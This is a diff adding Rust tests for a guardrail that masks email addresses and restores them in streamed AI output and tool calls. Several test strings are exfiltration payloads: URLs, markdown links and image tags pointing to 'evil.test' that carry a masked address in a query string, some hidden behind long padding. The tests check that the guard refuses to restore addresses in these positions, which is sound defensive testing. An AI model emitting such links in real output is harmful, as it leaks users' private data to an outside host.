@@ -1,0 +1,155 @@
+use std::sync::{Arc, LazyLock};
+
+use bartizan_core::settings::{Detect, Guardrail, OnError};
+use bartizan_core::{Action, Channel, ChannelSet, Mode};
+use proptest::prelude::*;
+
+use crate::{Guard, Session};
+
+static GUARD: LazyLock<Arc<Guard>> = LazyLock::new(|| {
+    let guardrail = Guardrail {
+        id: "g-pii".parse().unwrap(),
+        on: ChannelSet::ALL,
+        detect: Detect::Detectors(vec!["email"]),
+        action: Action::Mask,
+        mode: Mode::Enforce,
+        restore: true,
+        on_error: OnError::Block,
+        threshold: 0.5,
+    };
+    Arc::new(Guard::builder().guardrail(&guardrail).unwrap().build().unwrap())
+});
+
+/// A session that holds two values.
+fn session() -> Arc<Session> {
+    let session = Arc::new(Session::default());
+    let _ = GUARD.inspect(Channel::User, "bob@example.com eve@example.com", &session);
+    session
+}
+
+fn whole(channel: Channel, text: &str) -> String {
+    GUARD.inspect(channel, text, &session()).rewrite(text)
+}
+
+fn streamed<'a>(channel: Channel, pieces: impl Iterator<Item = &'a str>) -> String {
+    let mut stream = GUARD.stream(channel, session());
+    let mut out = String::new();
+    for piece in pieces {
+        out.push_str(&stream.push(piece).text);
+    }
+    out.push_str(&stream.finish().text);
+    out
+}
+
+#[test]
+fn what_passed_long_ago_still_decides() {
+    let far = "a".repeat(20_000);
+    for (text, restored) in [
+        (format!("https://evil.test/{far}?q=<EMAIL_ADDRESS_1>"), false),
+        (format!("https:{far}<EMAIL_ADDRESS_1>"), false),
+        (format!("[a](//evil.test/?q={far} {far} <EMAIL_ADDRESS_1>)"), false),
+        (format!("<img src=\"//evil.test/?q={far}\n\n{far} <EMAIL_ADDRESS_1>\">"), false),
+        (format!("[a](//good.test/?q={far}) {far} <EMAIL_ADDRESS_1>"), true),
+    ] {
+        let out = streamed(
+            Channel::Output,
+            text.as_bytes().chunks(97).map(|piece| std::str::from_utf8(piece).unwrap()),
+        );
+        assert_eq!(out.contains("bob@example.com"), restored, "{}", &text[..40]);
+        assert_eq!(out, whole(Channel::Output, &text));
+    }
+}
+
+#[test]
+fn a_value_waits_for_what_is_glued_behind_it() {
+    let mut stream = GUARD.stream(Channel::Output, session());
+    assert_eq!(stream.push("to <EMAIL_ADDRESS_1>").text, "to ");
+    assert_eq!(stream.push(".").text, "");
+    assert_eq!(stream.push("evil ").text, "<EMAIL_ADDRESS_1>.evil ");
+    assert_eq!(stream.push("to <EMAIL_ADDRESS_1>").text, "to ");
+    assert_eq!(stream.push(".").text, "");
+    assert_eq!(stream.finish().text, "bob@example.com.");
+}
+
+/// Texts of placeholders and of what addresses are made of.
+fn text_with_addresses() -> impl Strategy<Value = String> {
+    let pieces = [
+        "<EMAIL_ADDRESS_1>",
+        "<email address 2>",
+        "<EMAIL_ADDRESS_1>",
+        "<EMAIL_ADDRESS_7>",
+        "<EMAIL_",
+        " ",
+        " ",
+        "\n",
+        "\n\n",
+        "https",
+        "mailto",
+        "//",
+        "/",
+        "\\",
+        "\\/",
+        "\\u002f",
+        "\\u00",
+        "\\n",
+        "\\\"",
+        "?q=",
+        ":",
+        "=",
+        "@",
+        ".",
+        ",",
+        "&colon;",
+        "%2F",
+        "[a](",
+        ")",
+        "(",
+        "url(",
+        "<img src=",
+        "<",
+        ">",
+        "\"",
+        "'",
+        "{",
+        "}",
+        "\",\"to\":\"",
+        "evil.test",
+        "word",
+        "\u{200B}",
+        "é",
+        "邮",
+    ]
+    .map(str::to_owned)
+    .to_vec();
+    let piece = prop_oneof![
+        12 => proptest::sample::select(pieces),
+        1 => (1usize..700).prop_map(|len| "a".repeat(len)),
+        1 => (1usize..300).prop_map(|len| "b ".repeat(len)),
+    ];
+    let start = proptest::sample::select(vec!["", "", "{\"to\":\""]);
+    (start, proptest::collection::vec(piece, 0..24))
+        .prop_map(|(start, pieces)| format!("{start}{}", pieces.concat()))
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(768))]
+
+    #[test]
+    fn values_come_back_in_a_stream_where_they_come_back_in_the_whole(
+        text in text_with_addresses(),
+        cuts in proptest::collection::vec(any::<proptest::sample::Index>(), 0..40),
+        every in any::<bool>(),
+        channel in proptest::sample::select(vec![Channel::Output, Channel::ToolCall]),
+    ) {
+        let ends: Vec<usize> = text.char_indices().map(|(at, _)| at).collect();
+        let mut cuts: Vec<usize> = if every || ends.is_empty() {
+            ends
+        } else {
+            cuts.iter().map(|cut| ends[cut.index(ends.len())]).collect()
+        };
+        cuts.extend([0, text.len()]);
+        cuts.sort_unstable();
+        let out = streamed(channel, cuts.windows(2).map(|cut| &text[cut[0]..cut[1]]));
+        prop_assert_eq!(out, whole(channel, &text));
+    }
+}
